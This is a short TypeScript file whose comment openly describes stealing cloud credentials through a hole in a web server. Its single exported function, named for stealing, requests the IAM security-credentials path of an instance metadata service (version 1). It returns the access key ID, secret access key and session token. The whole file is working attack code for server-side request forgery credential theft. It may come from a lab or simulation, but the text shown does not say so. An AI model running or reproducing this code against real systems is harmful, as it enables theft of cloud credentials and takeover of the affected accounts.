// The theft of every course: two requests to an instance's metadata service, version 1, through a hole in its web server.
import type { Keys } from "./clients.ts";

export async function stealFromInstance(imds: string, roleName: string): Promise<Keys> {
  const answer = await fetch(`${imds}/latest/meta-data/iam/security-credentials/${roleName}`);
  const stolen = (await answer.json()) as Readonly<Record<string, string>>;
  return {
    accessKeyId: stolen["AccessKeyId"] ?? "",
    secretAccessKey: stolen["SecretAccessKey"] ?? "",
    sessionToken: stolen["Token"] ?? "",
  };
}
